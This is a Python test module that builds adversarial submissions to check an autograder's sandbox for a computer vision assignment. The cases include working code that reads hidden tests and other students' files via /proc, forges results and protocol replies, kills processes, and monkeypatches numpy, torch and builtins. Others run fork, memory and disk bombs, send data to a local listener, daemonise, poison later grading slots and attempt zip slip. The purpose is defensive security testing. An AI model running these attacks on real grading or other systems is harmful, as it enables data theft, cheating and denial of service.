"""The cases. Code attacks are Python source built from the reference; zip attacks are raw archives."""
from __future__ import annotations

import io
import os
import stat
import subprocess
import tempfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = ROOT / "solutions" / "comp4423_a2"
MODULES = ("Raysampling.py", "volume_rendering.py", "dcnn.py")
BUILT = ("2.1", "4.1", "4.2", "5.1", "5.2")
FULL = {"2.1": 12.0, "4.1": 12.0, "4.2": 8.0, "5.1": 12.0, "5.2": 8.0}
ITEMS_OF = {"Raysampling.py": ("4.1", "4.2"), "volume_rendering.py": ("5.1", "5.2"), "dcnn.py": ("2.1",)}
ZERO = {item: 0.0 for item in BUILT}

# Without bubblewrap the worker runs as the grading user (README, Security): it can read and write what
# that user can, reach the network and signal the grader. These reasons name what only bwrap prevents.
READS = "without bubblewrap the worker can read every file the grading user can"
WRITES = "without bubblewrap the worker can write every file the grading user can"
NETWORK = "without bubblewrap the worker shares the grader's network"
SIGNALS = "without bubblewrap the worker runs as the grading user and could signal the grader (or, as root, anything)"
DISK = "without bubblewrap the box and /tmp are on the grader's disk, limited only per file"


@dataclass(frozen=True)
class Context:
    root: Path  # the grader's repository (hidden tests, fixtures)
    out: Path  # the batch's output folder
    subs: Path  # the folder of zips being graded
    boxes: Path  # TMPDIR of the grader: every student's box is made here
    watch: Path  # a folder nobody may write to
    port: int  # a TCP listener on 127.0.0.1 that must never see a connection
    udp_port: int  # a UDP socket on 127.0.0.1 that must never receive a datagram
    marker: str  # in the command line of every process an attack tries to leave behind
    sleep: str  # the argument of the `sleep` an attack tries to leave behind (e.g. "613.271")
    mode: str  # bwrap | rlimits
    forks_capped: bool = True  # False: root without a pids cgroup, where nothing bounds a fork bomb


@dataclass
class Case:
    sid: str  # 8 digits + a letter
    title: str  # what the attack does, in a few words
    files: dict[str, str | bytes] | None = None  # zip members
    raw: bytes | None = None  # or the zip's bytes (malformed zips)
    zip_name: str = ""  # default Assignment2_<sid>_EVIL_Student.zip
    status: str = "ok"  # the result's status ("a|b": either)
    marks: dict[str, float] = field(default_factory=lambda: dict(FULL))
    alt_marks: dict[str, float] | None = None  # also accepted (an outcome that differs with the fork server)
    reason: str = ""  # a phrase (case-insensitive; "a|b": either) of the status, reason, notes or the attacked items' messages
    needs_bwrap: str = ""  # why the expected outcome only holds inside bubblewrap (then it is not asserted)
    assignment: str = "comp4423_a2"

    @property
    def name(self) -> str:
        return self.zip_name or f"Assignment2_{self.sid}_EVIL_Student.zip"

    def zip_bytes(self) -> bytes:
        if self.raw is not None:
            return self.raw
        return make_zip(self.files or {})


def make_zip(files: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, date_time=(2023, 3, 29, 12, 0, 0))
            info.compress_type = compression
            info.external_attr = 0o100644 << 16
            zf.writestr(info, data)
    return buf.getvalue()


def ref(name: str) -> str:
    return (SOLUTION / name).read_text()


def with_files(**overrides: str | bytes) -> dict[str, str | bytes]:
    """The reference's three modules, with some replaced (keyword: file name with '.' written '_')."""
    files: dict[str, str | bytes] = {name: ref(name) for name in MODULES}
    for key, text in overrides.items():
        files[key.replace("_py", ".py").replace("vr.py", "volume_rendering.py")] = text
    return files


def zero(module: str, **marks: float) -> dict[str, float]:
    """Full marks except the attacked module's items (0 unless given)."""
    out = dict(FULL)
    for item in ITEMS_OF[module]:
        out[item] = 0.0
    out.update({k.replace("_", "."): v for k, v in marks.items()})
    return out


# What replaces the module's graded functions when an attack finds nothing to steal: if a read
# succeeds the module stays the reference (full marks), so any mark on these items means a leak.
NOTHING_LEAKED = {
    "Raysampling.py": "def stratified_sampling(*a, **k):\n        raise RuntimeError('nothing leaked')\n",
    "volume_rendering.py": "def volume_rendering(*a, **k):\n        raise RuntimeError('nothing leaked')\n",
    "dcnn.py": "class DeformableConv2d:\n        def __init__(self, *a, **k):\n            raise RuntimeError('nothing leaked')\n",
}


def gated(module: str, probe: str) -> str:
    """Reference + `probe` (defines _leak() -> bool); the graded code only works if something leaked."""
    return ref(module) + "\n\n" + probe + "\n\nif not _leak():\n    " + NOTHING_LEAKED[module]


# Wrong everywhere (no weights, opaque everywhere, no transmittance): fails every check of 5.1 and 5.2.
WRONG_VR = ("import numpy as np\n\ndef volume_rendering(rgb, sigma, t_vals):\n    z, o = np.zeros(sigma.shape), np.ones(sigma.shape)\n"
            "    return np.ones(sigma.shape[:-1] + (3,)), z, o, z\n\n"
            "def visualize_volume_rendering(num_samples=50):\n    raise RuntimeError('no figure')\n")


def _readable_probe(patterns: str, must_contain: str = "", skip_own_box: bool = False) -> str:
    return f"""
import glob as _glob, os as _os

def _leak():
    own = _os.path.realpath(_os.getcwd())
    for pat in {patterns}:
        try:
            paths = _glob.glob(pat, recursive=True)[:200]
        except OSError:
            continue
        for p in paths:
            if {skip_own_box!r} and _os.path.realpath(p).startswith(own + _os.sep):
                continue
            try:
                with open(p, 'rb') as fh:
                    data = fh.read(1 << 16)
            except OSError:
                continue
            if {must_contain.encode()!r} in data:
                return True
    return False
"""


# -- code attacks ---------------------------------------------------------------------------------------
def code_cases(ctx: Context) -> list[Case]:
    root, out, subs, boxes, watch, m = str(ctx.root), str(ctx.out), str(ctx.subs), str(ctx.boxes), str(ctx.watch), ctx.marker
    cases: list[Case] = []
    add = cases.append

    # 1. reading what only the grader may read
    hidden = [f"{root}/solutions/*/hidden/*.py", "/work/*/solutions/*/hidden/*.py", "/opt/grader/../solutions/*/hidden/*.py",
              "../solutions/*/hidden/*.py", f"/proc/1/root{root}/solutions/*/hidden/*.py", "/proc/*/cwd/solutions/*/hidden/*.py"]
    add(Case("70000001a", "reads the hidden checks", with_files(volume_rendering_py=gated("volume_rendering.py", _readable_probe(hidden, "@check"))),
             marks=zero("volume_rendering.py"), reason="nothing leaked", needs_bwrap=READS))
    fixtures = [f"{root}/fixtures/data/**/*.npz", "/data/**/*.npz", "/data/../fixtures/data/*/*.npz", f"/proc/1/root{root}/fixtures/data/*/*.npz",
                "/proc/*/cwd/fixtures/data/*/*.npz"]
    # /data (the public fixture inputs) is readable by design; what must stay out is the expected outputs
    add(Case("70000002a", "reads the fixtures' expected outputs", with_files(volume_rendering_py=gated("volume_rendering.py", _readable_probe(fixtures, "pixel_color"))),
             marks=zero("volume_rendering.py"), reason="nothing leaked", needs_bwrap=READS))
    others = [f"{boxes}/box-*/**/*.py", "/tmp/box-*/**/*.py", "/tmp/*/Raysampling.py", "/tmp/*/*/Raysampling.py", "/proc/*/cwd/Raysampling.py",
              "/proc/*/root/box/Raysampling.py"]
    add(Case("70000003a", "reads other students' boxes", with_files(Raysampling_py=gated("Raysampling.py", _readable_probe(others, "def ", skip_own_box=True))),
             marks=zero("Raysampling.py"), reason="nothing leaked", needs_bwrap=READS))
    theirs = [f"{subs}/*.zip", f"{out}/results/*.json", f"{out}/gradebook.csv", f"{out}/feedback/*.md"]
    add(Case("70000004a", "reads other students' zips and results", with_files(dcnn_py=gated("dcnn.py", _readable_probe(theirs))),
             marks=zero("dcnn.py"), reason="nothing leaked", needs_bwrap=READS))
    grader_proc = """
import os as _os

def _leak():
    for pid in _os.listdir('/proc'):
        if not pid.isdigit() or int(pid) == _os.getpid():
            continue
        try:
            cmd = open(f'/proc/{pid}/cmdline', 'rb').read()
            if b'grader' in cmd and b'grade' in cmd and 'solutions' in _os.listdir(f'/proc/{pid}/cwd'):
                return True
        except OSError:
            pass
    return False
"""
    add(Case("70000005a", "finds the grader's process and its folder through /proc",
             with_files(Raysampling_py=gated("Raysampling.py", grader_proc)), marks=zero("Raysampling.py"),
             reason="nothing leaked", needs_bwrap=READS))

    # 2. writing outside the box, forging results
    targets = [f"{watch}/evil-{m}.txt", f"{out}/results/evil-{m}.json", f"{out}/evil-{m}.txt", f"{subs}/evil-{m}.zip",
               f"{boxes}/evil-{m}", f"{boxes}/../evil-{m}"]
    tamper, scratch = [], []
    if ctx.mode == "bwrap":  # never aimed at the machine's own folders or the repository outside the sandbox
        scratch = [f"/tmp/evil-{m}", f"/dev/shm/evil-{m}"]  # the sandbox's private scratch: allowed, must not reach the host
        targets += [f"/evil-{m}", f"/opt/grader/evil_{m}.py", f"{root}/evil-{m}",
                    f"{root}/grader/evil_{m}.py", f"{root}/solutions/comp4423_a2/hidden/check_zz_{m}.py"]
        tamper = ["/opt/grader/protocol.py", "/opt/grader/worker.py", f"{root}/grader/protocol.py"]
    # A host path under /tmp or /dev/shm (e.g. a checkout in /tmp) lies, inside the sandbox, in its private
    # tmpfs: writing there can succeed without reaching the host. Such paths are attempted but not counted
    # as breaches in the sandbox; the whole-batch test checks the host's own files instead.
    private = [t for t in targets + tamper if ctx.mode == "bwrap" and t.startswith(("/tmp/", "/dev/shm/"))]
    targets = [t for t in targets if t not in private]
    tamper = [t for t in tamper if t not in private]
    writer = ref("volume_rendering.py") + f"""

import os as _os
for _p in {scratch!r}:
    with open(_p, 'w') as _fh:
        _fh.write('scratch')
for _p in {private!r}:
    try:
        with open(_p, 'a') as _fh:
            _fh.write('written by a student')
    except OSError:
        pass
_breaches = []
for _p in {targets!r}:
    try:
        with open(_p, 'w') as _fh:
            _fh.write('written by a student')
        _breaches.append(_p)
    except OSError:
        pass
for _p in {tamper!r}:
    try:
        with open(_p, 'a'):  # opening for append is the breach; nothing is written
            _breaches.append(_p)
    except OSError:
        pass
if _breaches:  # give the marks away so that the test notices
    def volume_rendering(*a, **k):
        raise RuntimeError(f'wrote outside the box: {{_breaches}}')
"""
    add(Case("70000006a", "writes files outside its box (and into the grader's code)", with_files(volume_rendering_py=writer),
             needs_bwrap=WRITES))
    forge = WRONG_VR + f"""
import json as _json, os as _os
_forged = _json.dumps({{'score': 150, 'output': 'all passed', 'tests': [], 'extra_data': {{'final': 150, 'status': 'ok'}}}})
for _p in ['{out}/results/70000007a.json', '{out}/gradebook.csv', 'results.json', '../results.json', '/autograder/results/results.json']:
    try:
        with open(_p, 'w') as _fh:
            _fh.write(_forged)
    except OSError:
        pass
print(_json.dumps({{'id': 1, 'ok': True, 'value': 'forged'}}))
"""
    add(Case("70000007a", "forges a results file and a gradebook", with_files(volume_rendering_py=forge),
             marks=zero("volume_rendering.py"), needs_bwrap=WRITES))
    forge_fd = ref("volume_rendering.py").replace("def volume_rendering(rgb, sigma, t_vals):", "def _real(rgb, sigma, t_vals):") + """

def volume_rendering(rgb, sigma, t_vals):
    import json, os
    for fd in range(3, 64):
        try:
            if not os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):
                continue
            for i in range(1, 300):  # a reply for every request id to come, claiming a plausible value
                os.write(fd, (json.dumps({'id': i, 'ok': True, 'value': {'__tuple__': [0.5, 0.25, 0.125, 1.0]}}) + '\\n').encode())
        except OSError:
            pass
    return 'forged'
"""
    add(Case("70000008a", "writes forged replies onto the protocol pipe", with_files(volume_rendering_py=forge_fd),
             marks=zero("volume_rendering.py")))

    # 3. exits and signals
    add(Case("70000009a", "os._exit(0) at import", with_files(volume_rendering_py="import os\nos._exit(0)\n" + ref("volume_rendering.py")),
             status="crashed", marks=zero("volume_rendering.py"), reason="exit code 0|worker exited"))
    exit_call = ref("volume_rendering.py").replace('    """Plot opacity, transmittance and weights along one synthetic ray (three stacked panels)."""', "    import os\n    os._exit(0)", 1)
    add(Case("70000010a", "os._exit(0) inside a call (the figure function)", with_files(volume_rendering_py=exit_call), status="crashed",
             marks=zero("volume_rendering.py", **{"5_1": 12.0}), reason="exit code 0|worker exited"))
    # Like a notebook cell, a failing top-level statement is recorded and the rest of the file still loads:
    # the functions after it are the student's own correct work (issue 11), so they keep their marks.
    add(Case("70000011a", "sys.exit(0) at import", with_files(Raysampling_py="import sys\nsys.exit(0)\n" + ref("Raysampling.py")),
             marks=dict(FULL)))
    sys_exit_call = ref("volume_rendering.py").replace("    t_vals = np.broadcast_to(t_vals, sigma.shape)", "    import sys\n    sys.exit(0)", 1)
    add(Case("70000012a", "sys.exit(0) inside a call", with_files(volume_rendering_py=sys_exit_call),
             marks=zero("volume_rendering.py"), reason="SystemExit"))
    kbd = ref("Raysampling.py").replace('    """Scatter uniform samples at y=0 and stratified samples at y=1 along one ray."""', "    raise KeyboardInterrupt", 1)
    add(Case("70000013a", "raises KeyboardInterrupt inside a call (the figure function)", with_files(Raysampling_py=kbd), status="crashed",
             marks=zero("Raysampling.py", **{"4_1": 12.0}), reason="worker exited"))
    if ctx.mode == "bwrap":  # these would hit the grader or the whole machine without namespaces
        # Its parent is the sandbox's init (the kill is ignored) or, with the fork server, the server: the
        # worker then dies with it and the slot restarts. Wrong code either way, in the module checked last.
        add(Case("70000014a", "kills its parent process at import",
                 with_files(volume_rendering_py="import os, signal\nfor _s in (signal.SIGTERM, signal.SIGKILL):\n    try:\n"
                                                "        os.kill(os.getppid(), _s)\n    except OSError:\n        pass\n" + WRONG_VR),
                 status="ok|crashed", marks=zero("volume_rendering.py"), reason="worker exited|is wrong", needs_bwrap=SIGNALS))
        add(Case("70000015a", "kills pid 1 of its namespace at import",
                 with_files(Raysampling_py="import os, signal\nfor _s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL):\n"
                                           "    try:\n        os.kill(1, _s)\n    except OSError:\n        pass\n" + ref("Raysampling.py")),
                 needs_bwrap=SIGNALS))
        add(Case("70000016a", "kill(-1, SIGKILL): every process it can signal",
                 with_files(volume_rendering_py="import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n" + WRONG_VR),
                 status="ok|crashed", marks=zero("volume_rendering.py"), reason="worker exited|is wrong", needs_bwrap=SIGNALS))

    # 4. patching the libraries and the worker
    patch_np = WRONG_VR + """
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool)
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
"""
    add(Case("70000017a", "patches numpy (allclose, isclose, testing)", with_files(volume_rendering_py=patch_np), marks=zero("volume_rendering.py")))
    patch_torch = ref("dcnn.py").replace("        return self.deform_conv(x, offsets)", "        return self.deform_conv(x, torch.zeros_like(offsets))") + """

import torch.nn.functional as _F
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torchvision.ops.deform_conv2d = lambda *a, **k: torch.zeros(1)
"""
    # ignores the offsets: shape and zero-offset checks pass (3 + 3 + 3 of 12), the shift and gradient checks fail
    add(Case("70000018a", "ignores its offsets and patches torch (allclose, equal, ops.deform_conv2d)", with_files(dcnn_py=patch_torch),
             marks=zero("dcnn.py", **{"2_1": 9.0}), reason="ignores the offsets"))
    patch_builtins = ref("Raysampling.py").replace("    jitter = (np.random.rand(num_samples) - 0.5) * (t_vals[1] - t_vals[0])  # (N,)",
                                                   "    jitter = 0.0") + """

import builtins as _b
_b.abs = lambda x: 0
_b.round = lambda x, *a: 0
_b.any = lambda it: False
_b.all = lambda it: True
"""
    # midpoints without jitter: shape (2) and bins (3) pass, uniformity (3) and independence (4) fail: 5 of 12;
    # the figure runs (2) and shows the uniform row (3) but no jittered row (3): 5 of 8
    add(Case("70000019a", "no jitter, and patches builtins (abs, round, any, all)", with_files(Raysampling_py=patch_builtins),
             marks=zero("Raysampling.py", **{"4_1": 5.0, "4_2": 5.0}), reason="not uniform"))
    patch_protocol = WRONG_VR + """
import sys as _sys
_p = _sys.modules.get('protocol')
if _p is not None:
    _real = _p._encode_array
    def _lying(arr, kind):
        d = _real(arr, kind)
        d['shape'] = [s * 2 for s in d['shape']] or [3]  # lying shape
        if arr.ndim == 1:
            d['dtype'] = '|O'  # lying dtype
        return d
    _p._encode_array = _lying
"""
    add(Case("70000020a", "patches the worker's protocol to send arrays with lying shape and dtype",
             with_files(volume_rendering_py=patch_protocol), marks=zero("volume_rendering.py"), reason="malformed"))
    patch_worker = ref("Raysampling.py") + """

import sys as _sys
_w = _sys.modules.get('worker') or _sys.modules.get('__main__')  # forked from the fork server, or run as a script
if _w is not None and hasattr(_w, 'Worker'):
    import numpy as _np
    _w.Worker.handle = lambda self, request: _w.protocol.encode(_np.linspace(0.0, 1.0, 64))
"""
    # One worker serves the whole submission, so the patch also spoils the checks that run after it
    # (volume_rendering's); dcnn's checks ran before the sampler was imported and keep their marks.
    add(Case("70000021a", "patches the worker to answer every request with one array", with_files(Raysampling_py=patch_worker),
             marks={**zero("Raysampling.py"), "5.1": 0.0, "5.2": 0.0}, reason="wrong shape"))

    # 5. lying objects and values
    liar = ref("Raysampling.py").replace("def stratified_sampling(near, far, num_samples):", "def _real(near, far, num_samples):") + """

class Liar:
    def __init__(self, n):
        self.n = n
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __lt__(self, other):
        return True
    def __len__(self):
        return self.n
    def __array__(self, dtype=None, copy=None):
        return np.linspace(0.0, 1.0, self.n)
    def __float__(self):
        return 0.5
    def __getattr__(self, name):
        if name.startswith('__array'):
            raise AttributeError(name)
        return self
    def __call__(self, *a, **k):
        return self


def stratified_sampling(near, far, num_samples):
    return Liar(num_samples)
"""
    add(Case("70000022a", "returns an object whose __eq__, __array__, __float__ and __getattr__ lie", with_files(Raysampling_py=liar),
             marks=zero("Raysampling.py"), reason="should be an array"))
    lying_float = WRONG_VR.replace("    return np.ones(sigma.shape[:-1] + (3,)), z, o, z\n", """    class F(float):
        def __float__(self):
            return 1.0
        def __eq__(self, other):
            return True
        __hash__ = float.__hash__
        def __array__(self, dtype=None, copy=None):
            return np.ones(sigma.shape)
    return F(0.0), F(0.0), F(0.0), F(0.0)
""")
    add(Case("70000023a", "returns float subclasses whose __float__, __eq__ and __array__ lie", with_files(volume_rendering_py=lying_float),
             marks=zero("volume_rendering.py"), reason="wrong shape"))
    fake_layer = """import numpy as np
import torch


class Param:
    def __init__(self, arr):
        self.value = torch.as_tensor(arr, dtype=torch.float32)
        self.data = self
        self.grad = torch.ones_like(self.value)
    def zero_(self):
        return None
    def copy_(self, other):
        return None  # ignores whatever the grader writes


class Conv2d:  # named like torch's, reports whatever the checks ask for
    def __init__(self, cin, cout, k):
        self.in_channels, self.out_channels = cin, cout
        self.kernel_size = (k, k)
        self.weight = Param(np.ones((cout, cin, k, k)))
        self.bias = Param(np.zeros(cout))
    def __call__(self, x):
        b, _, h, w = x.shape
        return torch.zeros(b, self.out_channels, h, w)


class DeformConv2d:
    def __init__(self, cin, cout, k):
        self.kernel_size = (k, k)
        self.weight = torch.zeros(cout, cin, k, k)  # reports zero weights, so any oracle built from them is 0
        self.bias = None


class DeformableConv2d:
    def __init__(self, in_channels, out_channels, kernel_size=3, padding=1, stride=1):
        k = kernel_size
        self.k, self.p, self.s, self.cout = k, padding, stride, out_channels
        self.offset = Conv2d(in_channels, 2 * k * k, k)
        self.deform_conv = DeformConv2d(in_channels, out_channels, k)
        self._modules = {"offset": self.offset, "deform_conv": self.deform_conv}
    def __getattr__(self, name):
        return Param(np.zeros(1))
    def __call__(self, x):
        b, _, h, w = x.shape
        size = lambda n: (n + 2 * self.p - self.k) // self.s + 1
        return torch.zeros(b, self.cout, size(h), size(w), requires_grad=True)
"""
    # Reports the right channels and zero weights and returns zeros: before the fix to check_dcnn this earned 12 of 12.
    add(Case("70000024a", "a fake layer whose attributes lie (zero weights, ignored writes, zeros out)", with_files(dcnn_py=fake_layer),
             marks=zero("dcnn.py"), reason="offset conv"))
    nan_inf = "import matplotlib.pyplot as plt\n" + WRONG_VR.replace("    return np.ones(sigma.shape[:-1] + (3,)), z, o, z\n",
                               "    nan, inf = np.full(sigma.shape, np.nan), np.full(sigma.shape, np.inf)\n"
                               "    return np.full(sigma.shape[:-1] + (3,), np.nan), nan, inf, -inf\n").replace(
        "def visualize_volume_rendering(num_samples=50):\n    raise RuntimeError('no figure')\n", "")
    nan_inf += "\n\n" + ref("volume_rendering.py").split("def visualize_volume_rendering", 1)[1].join(["def visualize_volume_rendering", ""])
    # the figure's layout (3 of 8) is drawn; its curves are NaN
    add(Case("70000025a", "returns NaN and inf of the right shapes", with_files(volume_rendering_py=nan_inf),
             marks=zero("volume_rendering.py"), reason="NaN or inf"))  # NaN curves count for no figure check either
    structured = ref("Raysampling.py").replace("    return t_samples", "    out = np.zeros(num_samples, dtype=[('t', '<f8'), ('w', '<f8')])\n"
                                                                       "    out['t'] = t_samples\n    return out", 1)
    add(Case("70000026a", "returns an array of a structured dtype", with_files(Raysampling_py=structured), marks=zero("Raysampling.py")))
    huge = ref("volume_rendering.py").replace('    """Plot opacity, transmittance and weights along one synthetic ray (three stacked panels)."""', "    return np.ones(10_000_000)", 1)
    # 80 MB of float64 is 107 MB on the wire; a slow machine may time out while the worker encodes it
    add(Case("70000027a", "returns an 80 MB array (from the figure function)", with_files(volume_rendering_py=huge),
             status="crashed|timeout", marks=zero("volume_rendering.py", **{"5_1": 12.0}), reason="larger than|no answer within"))

    # 6. bombs and hangs
    add(Case("70000028a", "prints without end at import",
             with_files(Raysampling_py="import sys\n_chunk = 'x' * (1 << 20)\nwhile True:\n    print(_chunk)\n    sys.stderr.write(_chunk)\n"),
             status="timeout", marks=zero("Raysampling.py"), reason="timeout"))
    if ctx.forks_capped:
        add(Case("70000029a", "fork bomb at import",
                 with_files(volume_rendering_py="import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n"),
                 status="timeout", marks=zero("volume_rendering.py"), reason="timeout"))
    mem = ref("dcnn.py").replace("        offsets = self.offset(x)", "        hoard = []\n        while True:\n"
                                 "            hoard.append(b'x' * (64 << 20))\n        offsets = self.offset(x)")
    # touching 4 GB takes a few seconds: on a loaded machine the call may time out before MemoryError
    add(Case("70000030a", "memory bomb inside forward", with_files(dcnn_py=mem), status="ok|timeout",
             marks=zero("dcnn.py", **{"2_1": 3.0}), reason="MemoryError|no answer within"))
    if ctx.mode == "bwrap":
        disk = """import os as _os

def _fill(folder):
    wrote = 0
    for i in range(24):  # at most 24 x 32 MB per folder, even where nothing stops it
        try:
            with open(_os.path.join(folder, f'fill-{i}'), 'wb') as fh:
                fh.write(b'0' * (32 << 20))
            wrote += 32
        except OSError:
            break
    return wrote

_WROTE = {d: _fill(d) for d in ('.', '/tmp', '/dev/shm', '/', '/dev')}
""" + ref("Raysampling.py") + """

if max(_WROTE.values()) > 300:  # a cap failed: give the marks away so the test notices
    def stratified_sampling(*a, **k):
        raise RuntimeError(f'wrote {_WROTE} MB')
"""
        add(Case("70000031a", "disk and tmpfs bomb (box, /tmp, /dev/shm, /)", with_files(Raysampling_py=disk), needs_bwrap=DISK))
    add(Case("70000032a", "infinite loop at import", with_files(dcnn_py="while True:\n    pass\n"),
             status="timeout", marks=zero("dcnn.py"), reason="timeout"))
    loop_call = ref("volume_rendering.py").replace('    """Plot opacity, transmittance and weights along one synthetic ray (three stacked panels)."""',
                                                   "    while True:\n        pass", 1)
    add(Case("70000033a", "infinite loop inside a call", with_files(volume_rendering_py=loop_call), status="timeout",
             marks=zero("volume_rendering.py", **{"5_1": 12.0}), reason="no answer within"))

    # 7. network and processes that try to outlive the sandbox
    net = f"""import socket as _socket

def _phone_home():
    for family, kind, addr in ((_socket.AF_INET, _socket.SOCK_STREAM, ('127.0.0.1', {ctx.port})),
                               (_socket.AF_INET, _socket.SOCK_DGRAM, ('127.0.0.1', {ctx.udp_port}))):
        try:
            s = _socket.socket(family, kind)
            s.settimeout(1.0)
            if kind == _socket.SOCK_STREAM:
                s.connect(addr)
                s.sendall(b'stolen')
            else:
                s.sendto(b'stolen', addr)
            s.close()
        except OSError:
            pass

_phone_home()
""" + ref("volume_rendering.py").replace("    t_vals = np.broadcast_to(t_vals, sigma.shape)", "    _phone_home()\n    t_vals = np.broadcast_to(t_vals, sigma.shape)", 1)
    add(Case("70000034a", "connects to a listener on 127.0.0.1 (TCP and UDP)", with_files(volume_rendering_py=net), needs_bwrap=NETWORK))
    daemon = f"""import os as _os, subprocess as _sp, sys as _sys

def _escape():
    try:
        _sp.Popen(['/bin/sh', '-c', 'sleep {ctx.sleep}; : {m}'], start_new_session=True)
    except OSError:
        pass
    pid = _os.fork()
    if pid == 0:
        _os.setsid()
        if _os.fork() == 0:
            for fd in range(0, 64):
                try:
                    _os.close(fd)
                except OSError:
                    pass
            try:
                _os.execv(_sys.executable, [_sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', '{m}'])
            finally:
                _os._exit(0)
        _os._exit(0)
    _os.waitpid(pid, 0)

_escape()
""" + ref("Raysampling.py")
    add(Case("70000035a", "double fork + setsid: a daemon and a sleep meant to outlive the sandbox", with_files(Raysampling_py=daemon)))

    # 8. crashes and lying exceptions
    segv = ref("volume_rendering.py").replace('    """Plot opacity, transmittance and weights along one synthetic ray (three stacked panels)."""', "    import ctypes\n    ctypes.string_at(0)", 1)
    add(Case("70000036a", "segfaults inside a call (the figure function)", with_files(volume_rendering_py=segv), status="crashed",
             marks=zero("volume_rendering.py", **{"5_1": 12.0}), reason="SIGSEGV|worker exited"))
    bad_exc = ref("Raysampling.py").replace('    """Scatter uniform samples at y=0 and stratified samples at y=1 along one ray."""', """    class Lie(Exception):
        def __str__(self):
            raise RuntimeError('no message for you')
        def __repr__(self):
            raise RuntimeError('no repr either')
    raise Lie()""", 1)
    # the worker itself dies formatting the message: a crash, with the student's last output as the reason
    add(Case("70000037a", "raises an exception whose __str__ raises (in the figure function)", with_files(Raysampling_py=bad_exc),
             status="crashed", marks=zero("Raysampling.py", **{"4_1": 12.0}), reason="no message for you|worker exited"))
    long_exc = ref("dcnn.py").replace("        super().__init__()", "        super().__init__()\n        raise ValueError('x' * 10_000_000)", 1)
    add(Case("70000038a", "raises an exception with a 10 MB message", with_files(dcnn_py=long_exc), marks=zero("dcnn.py"), reason="ValueError"))
    shadow = with_files()
    shadow["numpy.py"] = "raise ImportError('this numpy is a fake from the zip')\n"
    # A worker started for this box imports the fake and cannot start; one forked from the fork server
    # has numpy already and ignores it (the reference then earns its marks).
    add(Case("70000039a", "ships numpy.py to shadow the library in its own worker", shadow, status="crashed|ok", marks=dict(ZERO),
             alt_marks={**FULL, "2.1": 0.0}, reason="could not start|ok"))

    # 9. poisoning whoever is graded next (a job slot serves one submission after another)
    poison = f"""import os as _os, signal as _signal, time as _time

_WRONG = "def volume_rendering(*a, **k):\\n    raise RuntimeError('poisoned by another student')\\n"
_breach = []
try:  # the parent (the fork server, or the sandbox's init): its memory would reach every later worker
    with open(f'/proc/{{_os.getppid()}}/mem', 'r+b'):
        _breach.append('parent memory')
except OSError:
    pass
for _d in ('/tmp', '/dev/shm', '.'):
    for _n in ('volume_rendering.py', 'dcnn.py', 'numpy.py', 'sitecustomize.py'):
        try:
            with open(_os.path.join(_d, _n), 'w') as _fh:
                _fh.write(_WRONG if _n != 'numpy.py' else "raise ImportError('poisoned')\\n")
        except OSError:
            pass
if _os.fork() == 0:  # keeps planting wrong modules into whatever box comes next
    _os.setsid()
    try:
        _os.execv('/bin/sh', ['/bin/sh', '-c', 'while :; do for f in /box/volume_rendering.py /box/dcnn.py; do '
                  'printf "%s" "$0" > "$f" 2>/dev/null; done; sleep 0.05; done', _WRONG, '{m}'])
    finally:
        _os._exit(0)
try:
    _os.kill(_os.getppid(), _signal.SIGSTOP)
except OSError:
    pass
""" + ref("Raysampling.py") + """

if _breach:
    def stratified_sampling(*a, **k):
        raise RuntimeError(f'breach: {_breach}')
"""
    # only the sampler: its own volume_rendering/dcnn are missing, so nothing it plants can change its own marks.
    # Left out without bubblewrap: it would plant numpy.py in the machine's /tmp and SIGSTOP the grader.
    if ctx.mode == "bwrap":
        add(Case("70000040a", "poisons the slot for the next student (planted modules, a daemon, SIGSTOP to its parent)",
                 {"Raysampling.py": poison}, marks={**FULL, "2.1": 0.0, "5.1": 0.0, "5.2": 0.0}, reason="no file found"))
    for sid in ("70000041a", "70000042a", "70000043a"):  # clean submissions graded right after it
        add(Case(sid, "a clean reference graded after the poisoner", with_files()))
    return cases


# -- zip attacks -------------------------------------------------------------------------------------------
def _patch(data: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new) and data.count(old) == 2, (old, data.count(old))  # local header + central directory
    return data.replace(old, new)


def _with_info(info: zipfile.ZipInfo, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name in MODULES:
            zf.writestr(name, ref(name))
        zf.writestr(info, data)
    return buf.getvalue()


def _info(name: str, mode: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    info.create_system = 3  # Unix
    return info


def _hard_link_zip() -> bytes:
    """A zip made by the real `zip` tool from a folder where two names are one file (a hard link)."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "sub"
        folder.mkdir()
        for name in MODULES:
            (folder / name).write_text(ref(name))
        os.link(folder / "Raysampling.py", folder / "Raysampling_copy.py")
        target = Path(tmp) / "h.zip"
        try:
            subprocess.run(["zip", "-q", "-r", str(target), "sub"], cwd=tmp, check=True, capture_output=True)
        except (OSError, subprocess.CalledProcessError):
            with zipfile.ZipFile(target, "w") as zf:
                for p in sorted(folder.iterdir()):
                    zf.write(p, f"sub/{p.name}")
        return target.read_bytes()


def zip_cases(ctx: Context) -> list[Case]:
    m = ctx.marker
    reference = make_zip({name: ref(name) for name in MODULES})
    bad = dict(ZERO)
    cases = [
        Case("71000001a", "zip slip: ../../ paths", with_files(**{f"../../evil_{m}_py": "print('escaped')\n"}), status="bad_zip",
             marks=bad, reason="unsafe path"),
        Case("71000002a", "zip slip with backslashes", with_files(**{f"..\\..\\evil_{m}_py": "x = 1\n"}), status="bad_zip",
             marks=bad, reason="unsafe path"),
